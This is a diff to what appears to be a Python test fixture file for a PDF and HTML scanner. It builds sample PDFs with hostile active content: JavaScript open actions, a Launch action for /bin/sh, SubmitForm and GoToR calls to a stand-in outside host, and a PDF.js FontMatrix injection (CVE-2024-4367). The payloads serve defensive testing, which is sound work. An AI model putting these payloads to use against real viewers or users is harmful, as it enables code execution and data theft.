@@ -310,9 +310,11 @@ def _saved(hostile: str) -> bytes:
 """.encode(errors="replace")
 
 
-def _pdf(catalog: bytes = b"", on_page: bytes = b"", font: bytes = b"", *more: bytes) -> bytes:
+def _pdf(
+    said: bytes, catalog: bytes = b"", on_page: bytes = b"", font: bytes = b"", *more: bytes
+) -> bytes:
     """A page of text with entries of its own in catalog, page and font; `more` is 6 and on."""
-    words = b"A harbour official said the ferry had carried at least 40 people too many."
+    words = b"A harbour official said the ferry had carried at least 40 people, as %s." % said
     return made(
         b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
         b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
@@ -331,24 +333,33 @@ def _linked(action: bytes) -> bytes:
 _JS = b"/S /JavaScript /JS (app.alert\\(1\\); ran\\(\\);)"
 _FIELD = b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 99 99] /AA << "
 PDFS = {
-    "opened.pdf": _pdf(b"/OpenAction << %s >>" % _JS),
-    "named.pdf": _pdf(b"/Names << /JavaScript << /Names [(a) << %s >>] >> >>" % _JS),
-    "page.pdf": _pdf(on_page=b"/AA << /O << %s >> >>" % _JS),
-    "linked.pdf": _pdf(on_page=_linked(_JS)),
-    "address.pdf": _pdf(on_page=_linked(b"/S /URI /URI (javascript:ran\\(\\))")),
-    "outside.pdf": _pdf(b"/OpenAction << /S /URI /URI (http://outside.example/70) >>"),
-    "launched.pdf": _pdf(b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
-    "elsewhere.pdf": _pdf(b"/OpenAction << /S /GoToR /F (http://outside.example/71.pdf) >>"),
-    "sent.pdf": _pdf(b"/OpenAction << /S /SubmitForm /F (http://outside.example/72) >>"),
+    "opened.pdf": _pdf(b"he opened it", b"/OpenAction << %s >>" % _JS),
+    "named.pdf": _pdf(
+        b"she named it", b"/Names << /JavaScript << /Names [(a) << %s >>] >> >>" % _JS
+    ),
+    "page.pdf": _pdf(b"they turned a page", on_page=b"/AA << /O << %s >> >>" % _JS),
+    "linked.pdf": _pdf(b"the link was hidden", on_page=_linked(_JS)),
+    "address.pdf": _pdf(b"nobody saw", on_page=_linked(b"/S /URI /URI (javascript:ran\\(\\))")),
+    "outside.pdf": _pdf(
+        b"it led away", b"/OpenAction << /S /URI /URI (http://outside.example/70) >>"
+    ),
+    "launched.pdf": _pdf(b"boats were launched", b"/OpenAction << /S /Launch /F (/bin/sh) >>"),
+    "elsewhere.pdf": _pdf(
+        b"others stood by", b"/OpenAction << /S /GoToR /F (http://outside.example/71.pdf) >>"
+    ),
+    "sent.pdf": _pdf(
+        b"letters were sent", b"/OpenAction << /S /SubmitForm /F (http://outside.example/72) >>"
+    ),
     "field.pdf": _pdf(
+        b"farmers knew",
         b"/AcroForm << /Fields [6 0 R] >>",
         b"/Annots [6 0 R]",
         b"",
         _FIELD + b"/F << %s >> /K << %s >> >> >>" % (_JS, _JS),
     ),
     # What PDF.js before 4.2 ran as script (CVE-2024-4367).
-    "matrix.pdf": _pdf(font=b"/FontMatrix [1 2 3 4 5 (0\\); ran\\(\\)//)]"),
-    "titled.pdf": _pdf(b"/Lang (<script>ran\\(\\)</script>)"),
+    "matrix.pdf": _pdf(b"the mayor knew", font=b"/FontMatrix [1 2 3 4 5 (0\\); ran\\(\\)//)]"),
+    "titled.pdf": _pdf(b"the title had it", b"/Lang (<script>ran\\(\\)</script>)"),
 }
 FILES: dict[str, bytes] = {
     **{f"page-{number}.html": _saved(each) for number, each in enumerate((*TAGS, *FETCHING))},
